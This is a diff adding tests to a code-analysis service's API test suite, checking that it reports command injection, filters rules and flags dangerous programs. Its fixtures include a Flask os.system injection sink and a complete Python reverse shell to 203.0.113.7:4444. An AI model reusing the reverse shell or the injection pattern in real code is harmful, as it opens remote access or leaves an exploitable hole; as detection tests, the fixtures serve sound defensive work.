@@ -60,6 +60,43 @@ describe('POST /analyze', () => {
     expect(await bytes()).toBe(await bytes());
   });
 
+  it('finds, explains, scores and suggests', async () => {
+    const code = 'import os\nfrom flask import request\n\ndef f():\n    os.system("ls " + request.args["x"])\n';
+    const { body } = await analyze({ code, language: 'python' });
+    const [finding] = body.findings;
+    expect(finding).toMatchObject({
+      rule_id: 'python/command-injection',
+      category: 'security',
+      cwe: ['CWE-78'],
+      location: { start: { line: 5, column: 5 } },
+      snippet: 'os.system("ls " + request.args["x"])',
+      fingerprint: expect.stringMatching(/^[0-9a-f]{32}$/),
+    });
+    expect(code.slice(finding.location.start.offset, finding.location.end.offset)).toBe(finding.snippet);
+    expect(body.scores.security).toBeLessThan(70);
+    expect(body.suggestions[0].fingerprints).toContain(finding.fingerprint);
+    expect(body.engine.rules_run).toBeGreaterThan(20);
+  });
+
+  it('runs only the rules that are asked for', async () => {
+    const code = 'import os\nos.system("ls " + input())\n';
+    const only = await analyze({ code, language: 'python', rules: ['python/command-inj*'] });
+    const all = await analyze({ code, language: 'python' });
+    expect(only.body.engine.rules_run).toBeLessThan(all.body.engine.rules_run);
+    expect(only.body.findings.map((one: { rule_id: string }) => one.rule_id)).toEqual(['python/command-injection']);
+    const others = await analyze({ code, language: 'python', categories: ['performance'], min_severity: 'high' });
+    expect(others.body.findings).toEqual([]);
+  });
+
+  it('calls a program that means harm dangerous', async () => {
+    const code =
+      'import socket, subprocess, os\ns = socket.socket()\ns.connect(("203.0.113.7", 4444))\n' +
+      'os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nos.dup2(s.fileno(), 2)\nsubprocess.call(["/bin/sh", "-i"])\n';
+    const { body } = await analyze({ code, language: 'python' });
+    expect(body.dangerous).toBe(true);
+    expect(body.scores.overall).toBeLessThanOrEqual(10);
+  });
+
   it('counts offsets in UTF-16 units, lines and columns from 1', async () => {
     const { body } = await analyze({ code: '"😀";\r\n  function f() {}', language: 'javascript' });
     expect(body.metrics.per_function[0].location).toEqual({
